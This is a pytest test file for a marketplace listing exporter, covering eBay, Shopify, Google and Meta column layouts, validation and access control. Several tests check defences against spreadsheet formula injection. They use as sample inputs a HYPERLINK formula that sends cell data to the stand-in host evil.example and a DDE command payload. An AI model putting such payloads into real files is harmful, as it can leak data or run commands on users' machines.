"""Files for marketplaces: exactly their columns, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from django.test import Client

from listings.exports.cells import safe
from listings.services import listings
from tests.listings.conftest import LISTINGS, WORDS, data_of, refusal_of

COLUMNS = Path(__file__).parent / "columns"
EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Jeans")'


def columns(name):
    return (COLUMNS / f"{name}.txt").read_text().splitlines()


def send(seller, format="ebay", **body):
    return seller.client.post(f"{LISTINGS}/export", {"format": format, **body}, format="json")


def content(answer):
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content)


def table(answer, dialect="excel"):
    text = content(answer).decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), dialect)
    assert all(len(row) == len(header) for row in rows)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def test_ebays_columns_are_those_of_its_template(owner, make_listing):
    make_listing(attributes={"Department": "Men", "Fit": "Straight"})
    make_listing(attributes={"Rise": "High"})
    header, _ = table(send(owner, "ebay"))
    aspects = ["C:Brand", "C:Size", "C:Color", "C:Material", "C:Department", "C:Fit", "C:Rise"]
    expected = columns("ebay")
    at = expected.index("C:<aspect>")
    assert header == [*expected[:at], *aspects, *expected[at + 1 :]]


@pytest.mark.parametrize(("format", "dialect"), [("google", "excel-tab"), ("meta", "excel")])
def test_feeds_have_their_columns(owner, listing, format, dialect):
    header, rows = table(send(owner, format, link="https://shop.example/{id}"), dialect)
    assert header == columns(format)
    assert len(rows) == 1


def test_shopifys_columns_are_those_of_its_template(owner, listing):
    assert table(send(owner, "shopify"))[0] == columns("shopify")


def test_an_ebay_row(owner, make_listing, add_photo):
    make_listing(
        images=[add_photo(), add_photo()], sku="J-1", quantity=2, description="A <b>\n\nB\nC"
    )
    _, [row] = table(send(owner, "ebay"))
    told = {name: value for name, value in row.items() if value and name != "PicURL"}
    assert told == {
        "*Action(SiteID=US|Country=US|Currency=USD|Version=1193|CC=UTF-8)": "Draft",
        "CustomLabel": "J-1",
        "*Category": "11483",
        "*Title": WORDS["title"],
        "*ConditionID": "3000",
        "C:Brand": "Levi's",
        "C:Size": "W32 L34",
        "C:Color": "blue",
        "C:Material": "cotton",
        "C:Department": "Men",
        "*Description": "<p>A &lt;b&gt;</p><p>B<br>C</p>",
        "*Format": "FixedPrice",
        "*Duration": "GTC",
        "*StartPrice": "45.00",
        "*Quantity": "2",
        "*DispatchTimeMax": "3",
        "*ReturnsAcceptedOption": "ReturnsNotAccepted",
    }
    assert len(row["PicURL"].split("|")) == 2


def test_ebays_options_and_sites(owner, make_listing):
    make_listing(currency="EUR")
    options = {
        "action": "Add",
        "country": "FR",
        "location": "Lyon",
        "dispatchDays": 1,
        "returnsAccepted": True,
        "shippingProfile": "Colis",
        "returnProfile": "30 jours",
        "paymentProfile": "PayPal",
    }
    header, [row] = table(send(owner, "ebay", ebay=options))
    assert header[0] == "*Action(SiteID=France|Country=FR|Currency=EUR|Version=1193|CC=UTF-8)"
    last = ("*Location", "*DispatchTimeMax", "*ReturnsAcceptedOption", *header[-3:])
    assert [row[name] for name in last] == [
        *("Lyon", "1", "ReturnsAccepted", "Colis", "30 jours", "PayPal"),
    ]
    assert row[header[0]] == "Add"
    assert table(send(owner, "ebay"))[0][0].startswith("*Action(SiteID=Germany|Country=DE")
    refusal_of(send(owner, "ebay", ebay={"country": "US"}), 400, "VALIDATION_ERROR")


def test_an_ebay_file_has_one_currency_that_ebay_has(owner, make_listing):
    make_listing()
    make_listing(currency="GBP")
    error = refusal_of(send(owner, "ebay"), 400, "VALIDATION_ERROR")
    assert error["error"] == "An eBay file has one currency, not GBP and USD."
    crowns = make_listing(currency="SEK")
    refusal_of(send(owner, "ebay", listingIds=[crowns.public_id]), 400, "VALIDATION_ERROR")


def test_a_shopify_product_has_a_row_for_each_picture(owner, make_listing, add_photo):
    listing = make_listing(
        images=[add_photo() for _ in range(3)],
        purchase_price=900,
        sku="J-1",
        attributes={"Department": "Women", "UPC": "012345678905"},
        state="ready",
    )
    owner.client.patch(f"{LISTINGS}/{listing.public_id}", {"state": "listed"}, format="json")
    _, rows = table(send(owner, "shopify"))
    handle = rows[0]["URL handle"]
    assert re.fullmatch(r"levis-501-original-fit-jeans-w32-l34-blue-[a-z0-9]{8}", handle)
    told = {name: value for name, value in rows[0].items() if value and name != "Product image URL"}
    jeans = "Apparel & Accessories > Clothing > Pants"
    assert told == {
        "Title": WORDS["title"],
        "URL handle": handle,
        "Description": rows[0]["Description"],
        "Vendor": "Levi's",
        "Product category": jeans,
        "Type": "jeans",
        "Tags": "vintage, denim",
        "Published on online store": "TRUE",
        "Status": "Active",
        "SKU": "J-1",
        "Barcode": "012345678905",
        "Option1 name": "Size",
        "Option1 value": "W32 L34",
        "Price": "45.00",
        "Cost per item": "9.00",
        "Charge tax": "TRUE",
        "Inventory tracker": "shopify",
        "Inventory quantity": "1",
        "Continue selling when out of stock": "DENY",
        "Requires shipping": "TRUE",
        "Fulfillment service": "manual",
        "Image position": "1",
        "Image alt text": WORDS["title"],
        "Gift card": "FALSE",
        "Color (product.metafields.shopify.color-pattern)": "blue",
        "Google Shopping / Google product category": jeans,
        "Google Shopping / Gender": "Female",
        "Google Shopping / Age group": "Adult",
        "Google Shopping / Condition": "used",
    }
    for position, row in enumerate(rows[1:], start=2):
        assert {name for name, value in row.items() if value} == {
            *("URL handle", "Product image URL", "Image position", "Image alt text"),
        }
        assert (row["URL handle"], row["Image position"]) == (handle, str(position))
    assert len({row["Product image URL"] for row in rows}) == 3


def test_a_handle_is_made_for_titles_in_any_script(owner, make_listing):
    make_listing(title="قميص قطن", size="")
    _, [row] = table(send(owner, "shopify"))
    assert re.fullmatch(r"listing-[a-z0-9]{8}", row["URL handle"])
    assert (row["Title"], row["Option1 name"], row["Option1 value"]) == (
        *("قميص قطن", "Title", "Default Title"),
    )
    assert row["Status"] == "Draft"


def test_a_google_row(owner, make_listing, add_photo):
    listing = make_listing(images=[add_photo(), add_photo(), add_photo()], colors=["blue", "red"])
    _, [row] = table(send(owner, "google", link="https://shop.example/p/{sku}"), "excel-tab")
    assert {name: row[name] for name in row if row[name] and not name.endswith("image_link")} == {
        "id": listing.public_id,
        "title": WORDS["title"],
        "description": " ".join(WORDS["description"].split()),
        "link": f"https://shop.example/p/{listing.public_id}",
        "availability": "in_stock",
        "price": "45.00 USD",
        "condition": "used",
        "brand": "Levi's",
        "identifier_exists": "no",
        "google_product_category": "Apparel & Accessories > Clothing > Pants",
        "product_type": "jeans",
        "color": "blue/red",
        "size": "W32 L34",
        "gender": "male",
        "age_group": "adult",
        "material": "cotton",
    }
    assert len(row["additional_image_link"].split(",")) == 2


def test_a_meta_row(owner, make_listing):
    listing = make_listing(condition="new", quantity=0)
    listings.set_variant(
        owner.caller, listing, "facebook", {"url": "https://shop.example/1", "title": "Jeans"}
    )
    _, [row] = table(send(owner, "meta"))
    told = {name: value for name, value in row.items() if value and name != "image_link"}
    assert told == {
        "id": listing.public_id,
        "title": "Jeans",
        "description": WORDS["description"],
        "availability": "out of stock",
        "condition": "new",
        "price": "45.00 USD",
        "link": "https://shop.example/1",
        "brand": "Levi's",
        "google_product_category": "Apparel & Accessories > Clothing > Pants",
        "quantity_to_sell_on_facebook": "0",
        "gender": "male",
        "color": "blue",
        "size": "W32 L34",
        "age_group": "adult",
        "material": "cotton",
        "product_tags[0]": "vintage",
        "product_tags[1]": "denim",
    }


def test_pictures_links_are_whole_addresses_that_hold_for_a_week(owner, listing):
    _, [row] = table(send(owner, "ebay"))
    link = urlsplit(row["PicURL"])
    assert (link.scheme, link.netloc) == ("http", "testserver")
    left = int(parse_qs(link.query)["expires"][0]) - time.time()
    assert 6 * 86400 < left <= 7 * 86400
    assert Client().get(f"{link.path}?{link.query}").status_code == 200
    forged = link.query.replace("signature=", "signature=x")
    assert Client().get(f"{link.path}?{forged}").status_code == 403


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\uff1d1+1", "\u200e=1+1"),
        *("-", "+", "@"),
    ],
)
def test_formulas_become_text(text):
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "45.00", "-5", "Jeans", "a=b", "'=x", "https://x.example/?a=b"]
)
def test_other_cells_stay_as_they_are(text):
    assert safe(text) == text


@pytest.mark.parametrize("format", ["ebay", "shopify", "google", "meta", "csv"])
def test_no_cell_of_any_file_is_a_formula(owner, make_listing, format):
    make_listing(
        title=EVIL,
        description="@SUM(1)\n+1",
        brand="+cmd",
        size="-1+1",
        sku="=SKU",
        colors=["=1", "b"],
        materials=["@m"],
        tags=["=t", "+u"],
        attributes={"=Name": "=2+2", "UPC": "=3", "Pattern": "-x"},
    )
    more = {"link": "https://shop.example/{sku}"} if format in ("google", "meta") else {}
    header, rows = table(
        send(owner, format, **more), "excel-tab" if format == "google" else "excel"
    )
    for row in rows:
        for name, cell in row.items():
            assert not re.match(r"\s*[=+\-@]", cell), (name, cell)
    assert not any(re.match(r"\s*[=+\-@]", name) for name in header)
    assert f"'{EVIL}" in rows[0].values()


def test_quotes_commas_lines_and_every_script_come_back_from_a_csv_reader(owner, make_listing):
    text = "He said \"50%, off\"; 'ok'\n\n  שלום,\tעולם 👗\nlast|line"
    listing = make_listing(title='12" vinyl, "rare"', description=text, tags=["a,b", "c;d"])
    listing.refresh_from_db()
    _, [row] = table(send(owner, "csv"))
    assert row["title"] == '12" vinyl, "rare"'
    assert row["description"] == listing.description == text.replace("  שלום,\tעולם", "שלום, עולם")
    assert row["tags"] == "a,b|c;d"
    assert json.loads(row["attributes"]) == {"Department": "Men"}
    assert (row["price"], row["currency"], row["id"]) == ("45.00", "USD", listing.public_id)
    _, [ebay] = table(send(owner, "ebay"))
    assert ebay["*Title"] == '12" vinyl, "rare"'


def test_json_holds_the_same_with_types(owner, make_listing):
    one, two = make_listing(price=4500, currency="JPY"), make_listing(sku="=A")
    found = json.loads(content(send(owner, "json")))
    assert [item["id"] for item in found] == [one.public_id, two.public_id]
    assert (found[0]["price"], found[0]["quantity"], found[0]["tags"]) == (
        *("4500", 1, ["vintage", "denim"]),
    )
    assert found[1]["sku"] == "=A"  # no spreadsheet here: nothing is added
    assert found[0]["sold_at"] is None


def test_a_plain_file_in_a_platforms_words(owner, listing):
    listings.set_variant(owner.caller, listing, "depop", {"title": "501s", "price": 4800})
    answer = send(owner, "csv", platform="depop")
    assert re.fullmatch(
        r'attachment; filename="packshot-csv-depop-\d{4}-\d\d-\d\d\.csv"',
        answer.headers["Content-Disposition"],
    )
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    _, [row] = table(answer)
    assert (row["platform"], row["title"], row["price"]) == ("depop", "501s", "48.00")


def test_what_is_for_sale_is_exported_or_what_is_named_or_a_state(owner, make_listing):
    ready, draft = make_listing(title="Ready"), make_listing(title="Draft", state="draft")

    def titles(**body):
        return [row["title"] for row in table(send(owner, "csv", **body))[1]]

    assert titles() == ["Ready"]
    assert titles(state="draft") == ["Draft"]
    assert titles(listingIds=[draft.public_id, ready.public_id]) == ["Ready", "Draft"]
    refusal_of(send(owner, "csv", state="sold"), 409, "CONFLICT")
    both = send(owner, "csv", state="draft", listingIds=[draft.public_id])
    refusal_of(both, 400, "VALIDATION_ERROR")


def test_what_a_file_cannot_be_without_is_named_before_a_byte_is_sent(owner, make_listing):
    bare = make_listing(state="draft", images=[], title="", price=None)
    ids = [bare.public_id]
    error = refusal_of(send(owner, "ebay", listingIds=ids), 400, "VALIDATION_ERROR")
    assert error["error"] == f"{bare.public_id} needs a title and a price."
    assert table(send(owner, "csv", listingIds=ids))[1][0]["price"] == ""
    whole = make_listing()
    error = refusal_of(send(owner, "google", listingIds=[whole.public_id]), 400, "VALIDATION_ERROR")
    assert "needs an address (the variant's url, or `link`)" in error["error"]


@pytest.mark.parametrize(
    "body",
    [
        {"format": "xlsx"},
        {"format": "ebay", "platform": "depop"},
        {"format": "csv", "link": "https://x.example/{id}"},
        {"format": "meta", "link": "https://x.example/"},
        {"format": "meta", "link": "javascript:{id}"},
        {"format": "ebay", "ebay": {"action": "End"}},
        {"format": "ebay", "ebay": {"dispatchDays": -1}},
        {"format": "csv", "listingIds": []},
        {"format": "csv", "listingIds": ["lst_1"]},
    ],
)
def test_bad_wishes_are_refused(owner, listing, body):
    answer = owner.client.post(f"{LISTINGS}/export", body, format="json")
    refusal_of(answer, 400, "VALIDATION_ERROR")


def test_somebody_elses_listing_is_not_exported(owner, stranger, listing):
    refusal_of(send(stranger, "csv", listingIds=[listing.public_id]), 404, "NOT_FOUND")
    refusal_of(send(stranger, "csv"), 409, "CONFLICT")
    mine = data_of(owner.client.get(LISTINGS))
    assert mine["total"] == 1


def test_many_listings_are_read_a_hundred_at_a_time(
    owner, make_listing, add_photo, django_assert_max_num_queries
):
    image = add_photo()
    for _ in range(101):
        make_listing(images=[image])
    with django_assert_max_num_queries(40):
        _, rows = table(send(owner, "csv"))
    assert len(rows) == 101
